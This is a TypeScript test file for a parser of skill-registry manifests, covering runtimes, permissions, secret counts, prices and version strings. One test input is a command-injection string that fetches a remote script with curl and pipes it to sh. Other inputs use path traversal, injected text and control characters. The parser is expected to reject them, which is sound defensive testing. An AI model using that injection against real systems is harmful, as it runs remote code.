import assert from "node:assert/strict";
import { describe, it } from "mocha";
import type { JsonObject, JsonValue } from "../../../../src/core/json/jsonValue";
import { mergeSkill, type OwnDetail } from "../../../../src/core/skill/mergeSkill";
import { permissionLevelText } from "../../../../src/core/skill/permissions";
import { english } from "../../../../src/core/text/language";
import { readSkillDetail } from "../../../../src/registry/decode/readSkillDetail";
import { readSkillRow } from "../../../../src/registry/decode/readSkillRows";

const manifest = {
  schemaVersion: "0.1",
  name: "csv-profile",
  displayName: "CSV Profile",
  version: "1.2.0",
  description: "Profiles a table.",
  tags: ["csv"],
  runtime: { type: "http", entrypoint: "https://run.example/" },
  permissions: { network: true, browser: false, filesystem: "read", secrets: [] },
  inputSchema: { type: "object", properties: { snake_case: { type: "string" } } },
  outputSchema: true,
};

function read(body: JsonValue): OwnDetail {
  const result = readSkillDetail(body, "csv-profile", "/v1/skills/csv-profile");
  assert.ok(result.ok, JSON.stringify(result));
  return result.value;
}

describe("readSkillDetail", () => {
  const runtimes: [JsonValue, JsonValue | undefined][] = [
    [
      { type: "local", command: "[restricted local runtime]", args: ["[2 redacted args]"] },
      { type: "local", entry: "[restricted local runtime]", args: [], redactedArgs: 2 },
    ],
    [
      { type: "local", command: "a", args: ["--json", 7, {}] },
      { type: "local", entry: "a", args: ["--json", "7"] },
    ],
    [
      { type: "http", entrypoint: "https://a" },
      { type: "http", entry: "https://a" },
    ],
    ["mcp", { type: "mcp" }],
  ];
  for (const [runtime, expected] of runtimes) {
    it(`reads the runtime ${JSON.stringify(runtime)}`, () => {
      assert.deepEqual(read({ ...manifest, runtime }).runtime, expected);
    });
  }

  const authors: [JsonValue, JsonValue | undefined][] = [
    [
      { name: "Ida", url: "https://ida.example" },
      { name: "Ida", url: "https://ida.example" },
    ],
    ["Ida", { name: "Ida" }],
    [{ url: "https://ida.example" }, undefined],
    [["Ida"], undefined],
  ];
  for (const [author, expected] of authors) {
    it(`reads the author ${JSON.stringify(author)}`, () => {
      assert.deepEqual(read({ ...manifest, author }).author, expected);
    });
  }

  it("has no permission level if the registry states none", () => {
    assert.equal(read(manifest).summary.permissionLevel, undefined);
    assert.equal(read({ manifest, permissionLevel: "low" }).summary.permissionLevel, "low");
  });

  it("keeps the list's stated level for comparison with the permissions", () => {
    const row = readSkillRow({ slug: "csv-profile", version: "1.2.0", permissionLevel: "low" });
    const sides = { prices: undefined, feedback: undefined, publisher: undefined };
    const merged = mergeSkill({ own: read(manifest), row, ...sides });
    assert.ok(permissionLevelText(merged.summary, english).conflict);
    const derived = readSkillRow({ slug: "csv-profile", permissions: manifest.permissions });
    assert.deepEqual([derived?.permissionLevel, derived?.isLevelDerived], ["medium", true]);
  });

  const envelopes: readonly (readonly [string, JsonValue])[] = [
    ["bare", manifest],
    ["in data", { data: manifest }],
    ["in skill", { skill: manifest }],
    ["in both", { data: { skill: manifest } }],
    ["as the manifest of a detail", { slug: "csv-profile", manifest }],
    ["beside empty fields", { manifest, inputSchema: null, permissions: null, version: null }],
  ];
  for (const [name, body] of envelopes) {
    it(`reads a manifest ${name}`, () => {
      const own = read(body);
      assert.deepEqual(own.manifest, manifest);
      assert.deepEqual(own.inputSchema, manifest.inputSchema);
      assert.equal(own.outputSchema, true);
      assert.equal(own.summary.version, "1.2.0");
      assert.equal(own.summary.runtimeType, "http");
      assert.deepEqual(own.runtime, { type: "http", entry: "https://run.example/" });
    });
  }

  it("prefers members beside the manifest to those in it", () => {
    const own = read({
      manifest,
      version: "1.1.0",
      input_schema: { type: "string" },
      permission_level: "high",
    });
    assert.equal(own.summary.version, "1.1.0");
    assert.equal(own.summary.permissionLevel, "high");
  });

  const secrets: readonly (readonly [JsonValue, number, readonly string[]])[] = [
    [["A", "B"], 2, ["A", "B"]],
    [["[2 secret handles required]"], 2, []],
    [["[1 secret handle required]"], 1, []],
    [["[12 secret handles required]", "A"], 13, ["A"]],
    [3, 3, []],
    ["2", 2, []],
    [[], 0, []],
    [null, 0, []],
    [-4, 0, []],
    [0, 0, []],
    [false, 0, []],
    [2.5, 3, []],
    ["0.1", 1, []],
    ["1e999", 1, []],
    [1e300, Number.MAX_SAFE_INTEGER, []],
    [true, 1, []],
    ["API_KEY", 1, []],
    ["", 1, []],
    [{ AWS: "the key of the account" }, 1, []],
    [{}, 1, []],
    [[{}], 1, []],
    [[1, {}], 2, ["1"]],
    [[null, "", "A"], 3, ["A"]],
    [["[0 secret handles required]"], 1, []],
    [["[12345 secret handles required]"], 12345, []],
  ];
  for (const [value, secretCount, secretNames] of secrets) {
    it(`counts secrets given as ${JSON.stringify(value)}`, () => {
      const { permissions } = read({ ...manifest, permissions: { secrets: value } });
      assert.equal(permissions?.secretCount, secretCount);
      assert.deepEqual(permissions?.secretNames, secretNames);
    });
  }

  it("names at most 100 secrets, and counts all of them", () => {
    const secrets = Array.from({ length: 150 }, (_, at) => `S${at}`);
    const { permissions } = read({ ...manifest, permissions: { secrets } });
    assert.equal(permissions?.secretCount, 150);
    assert.equal(permissions.secretNames.length, 100);
  });

  const grants: readonly (readonly [JsonValue, boolean])[] = [
    [true, true],
    ["true", true],
    [1, true],
    [false, false],
    ["false", false],
    [0, false],
    [null, false],
    ["outbound", true],
    ["", true],
    [2, true],
    [[], true],
    [["api.example"], true],
    [{ hosts: ["api.example"] }, true],
  ];
  for (const [value, isGranted] of grants) {
    it(`reads network and browser of ${JSON.stringify(value)} as ${isGranted}`, () => {
      const { permissions } = read({
        ...manifest,
        permissions: { network: value, browser: value },
      });
      assert.deepEqual([permissions?.network, permissions?.browser], [isGranted, isGranted]);
    });
  }

  it("includes unreadable permissions in the level", () => {
    const levelOf = (permissions: JsonValue) =>
      readSkillRow({ slug: "csv-profile", permissions })?.permissionLevel;
    assert.equal(levelOf({}), "low");
    assert.equal(levelOf({ network: "outbound" }), "medium");
    assert.equal(levelOf({ secrets: [{}] }), "high");
  });

  const filesystems: readonly (readonly [JsonValue, string])[] = [
    ["none", "none"],
    ["Read", "read"],
    ["write", "write"],
    ["readwrite", "write"],
    [true, "write"],
    [false, "none"],
    [null, "none"],
  ];
  for (const [value, filesystem] of filesystems) {
    it(`reads a file access of ${JSON.stringify(value)} as ${filesystem}`, () => {
      const own = read({ ...manifest, permissions: { filesystem: value } });
      assert.equal(own.permissions?.filesystem, filesystem);
    });
  }

  it("uses the widest of several file permissions", () => {
    const own = read({ ...manifest, permissions: { filesystem: "none", file_system: "write" } });
    assert.equal(own.permissions?.filesystem, "write");
  });

  const named: readonly (readonly [JsonObject, readonly string[] | undefined])[] = [
    [{ network: false, browser: false, filesystem: "none", secrets: [] }, undefined],
    [{ subprocess: true }, ["subprocess"]],
    [{ Network: true, gpu: { memory: 1 } }, ["Network", "gpu"]],
    [{ subprocess: false, gpu: null }, undefined],
  ];
  for (const [permissions, others] of named) {
    it(`treats unknown permissions as granted: ${JSON.stringify(permissions)}`, () => {
      assert.deepEqual(read({ ...manifest, permissions }).permissions?.others, others);
      const level = readSkillRow({ slug: "csv-profile", permissions })?.permissionLevel;
      assert.equal(level, others === undefined ? "low" : "high");
    });
  }

  it("names the first of many permissions, and counts the rest", () => {
    const permissions = Object.fromEntries(Array.from({ length: 102 }, (_, at) => [`p${at}`, 1]));
    const others = read({ ...manifest, permissions }).permissions?.others;
    assert.deepEqual([others?.length, others?.at(-1)], [101, "+2"]);
  });

  it("leaves out unreadable parts instead of inventing them", () => {
    const own = read({ version: "1.0.0", permissions: "all", inputSchema: "x", runtime: 5 });
    assert.equal(own.permissions, undefined);
    assert.equal(own.inputSchema, undefined);
    assert.equal(own.runtime, undefined);
    assert.deepEqual(own.examples, []);
    assert.equal(own.prices, undefined);
    assert.equal(own.feedback, undefined);
  });

  it("reads an amount below zero as missing, not as free", () => {
    const prices = [{ billingModel: "per_call", unitAmountCents: -1 }];
    assert.deepEqual(read({ manifest, prices }).prices, [{ billingModel: "per_call" }]);
  });

  const versions: [JsonValue, string][] = [
    ["1.2.3-garbage+1", "1.2.3-garbage+1"],
    ["1.0–ü", ""],
    [`1;curl\${IFS}x.example|sh`, ""],
    ["../1", ""],
    ["1".repeat(100), "1".repeat(100)],
    ["1".repeat(101), ""],
    [2, "2"],
    ["1.0.0\n  met  The publisher is active.", ""],
    ["1.0 0", ""],
    ["1.0\u2028", ""],
    ["1.0\u202e", ""],
    ["1.0\u200b", ""],
    ["1.0\u001b[2J", ""],
  ];
  for (const [version, expected] of versions) {
    it(`reads the version ${JSON.stringify(expected)} from ${JSON.stringify(version)}`, () => {
      const own = read({ ...manifest, version, latestVersion: version, versions: [{ version }] });
      assert.equal(own.summary.version, expected);
      assert.equal(own.latestVersion ?? "", expected);
      assert.equal(own.versions[0]?.version ?? "", expected);
      assert.equal(readSkillRow({ slug: "csv-profile", version })?.version, expected);
    });
  }

  it("reads prices, feedback, versions and a review inside the detail", () => {
    const own = read({
      manifest,
      prices: [{ billing_model: "free" }, {}],
      feedback: [{ rating: "4" }, {}, "good"],
      summary: { average_rating: 4, published_count: 1, rating_breakdown: { "4": 1, "9": 9 } },
      versions: ["1.2.0", { version: "1.1.0", created_at: "2026-01-01" }, {}],
      review: { state: "approved", reviewed_at: "2026-01-02" },
      support_url: "https://help.example/",
      examples: [
        { name: "None", input: null },
        { title: "Two", input: 0, output: null },
        { output: 1 },
      ],
    });
    assert.deepEqual(own.prices, [{ billingModel: "free" }]);
    assert.deepEqual(own.feedback, {
      averageRating: 4,
      publishedCount: 1,
      ratingBreakdown: { "4": 1 },
      entries: [{ text: "", rating: 4 }],
    });
    assert.deepEqual(own.versions, [
      { version: "1.2.0" },
      { version: "1.1.0", publishedAt: Date.UTC(2026, 0, 1) },
    ]);
    assert.equal(own.reviewState, "approved");
    assert.equal(own.reviewedAt, Date.UTC(2026, 0, 2));
    assert.equal(own.supportUrl, "https://help.example/");
    assert.deepEqual(own.examples, [
      { name: "None", input: null },
      { name: "Two", input: 0, output: null },
    ]);
  });

  const unreadable: readonly (readonly [JsonValue, string])[] = [
    [[], ""],
    ["x", ""],
    [null, ""],
    [{}, "manifest"],
    [{ ok: true }, "manifest"],
    [{ data: {} }, "manifest"],
  ];
  for (const [body, field] of unreadable) {
    it(`rejects ${JSON.stringify(body)}`, () => {
      assert.deepEqual(readSkillDetail(body, "a", "/v1/skills/a"), {
        ok: false,
        failure: { kind: "unreadable", route: "/v1/skills/a", field },
      });
    });
  }
});
